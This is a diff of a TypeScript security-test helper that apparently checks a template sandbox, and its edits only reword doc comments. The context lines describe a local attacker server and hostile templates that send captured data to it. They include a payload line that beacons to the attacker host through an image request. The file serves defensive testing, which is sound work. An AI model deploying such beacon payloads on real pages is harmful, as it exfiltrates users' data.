@@ -1,6 +1,6 @@
 import { createServer } from 'node:http';
 
-/** Starts the server of an attacker. It accepts all data and allows every page to read its answers. */
+/** Starts the server of an attacker. The server accepts all data and allows every page to read its responses. */
 export const openAttacker = async () => {
   const asked: string[] = [];
   const server = createServer((request, response) => {
@@ -15,8 +15,8 @@ export const openAttacker = async () => {
 };
 
 /**
- * Returns a template that tries all attacks when it is shown. The result of each attempt is in its `outcomes`: 'refused' with
- * the reason, or 'GOT' with the data. It sends the data to the attacker.
+ * Returns a template that tries all attacks when it is shown. The page stores the result of each attempt in `outcomes`:
+ * 'refused' with the reason, or 'GOT' with the data. The page sends the data to the attacker.
  */
 export const hostileTemplate = (attacker: string) => `<h1>Hostile {{ words }}</h1>
 <script>
@@ -152,8 +152,8 @@ function parentOrigin() { return location.ancestorOrigins[0]; }
 </script>`;
 
 /**
- * Returns an answer with attacks. Answers contain only markup, because templates decide which scripts run. Each attack sends
- * its name to the attacker if it runs.
+ * Returns an answer with attacks as markup, because only templates decide which scripts run. Each attack that runs sends its
+ * name to the attacker.
  */
 export const hostileAnswer = (attacker: string) => {
   const run = (name: string) => `new Image().src='${attacker}/ran?${name}'`;
